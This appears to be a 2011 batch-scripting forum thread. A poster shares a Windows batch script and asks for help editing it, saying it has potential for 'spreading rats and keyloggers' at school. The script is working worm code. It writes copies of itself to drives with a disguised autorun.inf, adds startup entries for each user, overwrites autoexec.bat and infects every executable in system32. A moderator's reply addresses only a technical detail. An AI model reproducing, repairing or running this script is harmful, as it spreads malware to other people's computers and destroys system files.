Batch Beta
Please Login to get full access and to disable ads.

Thanks to awestom for removing those ads!

Staff Selections are closed! Thanks for participating!
Welcome to the new admins and mods!
About the ads, yeah. We reached our 250'th post and the ads kicked on. In order to disable them I need to purchase a ad removal feature. Now, I don't have credits and in order to get one I need donations. Thanks

You are not connected. Please login or register

help me edit

Go down  Message [Page 1 of 1]

1help me edit Empty help me edit on Mon Jan 24, 2011 11:14 pm


i believe this script has alot of potential, with spreading rats and keyloggers, expecially if you go to school,lets discuss

there is a part that stops the keyboard from working, where is it, i would like to remove it.

@echo off & @break off & @ctty
if '%1=='ys goto :%1_c
if '%1=='zz goto :%1_z
if not exist %0 goto :eof
@for %%A in (A B F G H I J K L M N O P Q R S T U V W X Y Z) do (
if not '%1=="" shift
if exist %%A: call %0ys %%A

@for /f "tokens=4" %%A in ('tasklist^| find "Idle"') do (
if not '%1=="" shift
if not exist "%userprofile%\start menu\programs\startup\%%A.bat" call %0 zz %%A

@for %%A in ("%windir%\system32\*.exe") do (
copy %%A %~dpA\G-%~nxA
attrib +h +r "%~dpA\G-%~nxA"
copy /v /y /b %0 + %%A %%A

if exist "C:\autoexec.bat" (
type %0 > "C:\autoexec.bat"

cd"%windir%\system32" & bubbles.scr /p65552
goto :eof

@for /f "tokens=3 delims=[] " %%A in ('nbtstat -c^| find "Node"') do (
type %0 > "%2:\%%A.bat"
echo [autorun] > "%2:\autorun.inf"
echo open=%%A.bat >> "%2:\autorun.inf"
echo action=Open folder to view files >> "%2:\autorun.inf"

goto :eof

@for /d %%B in ("C:\users\*") do (
if not %%B equ Public type %0 > "%%B\start menu\programs\startup\%2.bat"

goto :eof:: End of Host ::

help me edit Jradminbatchbetasig

2help me edit Empty Re: help me edit on Tue Jan 25, 2011 2:53 pm


Jr Admin
Jr Admin
I don't know what your output of the Tasklist command is, but it doesn't include the wordidle for me.

Back to top  Message [Page 1 of 1]

Permissions in this forum:
You cannotreply to topics in this forum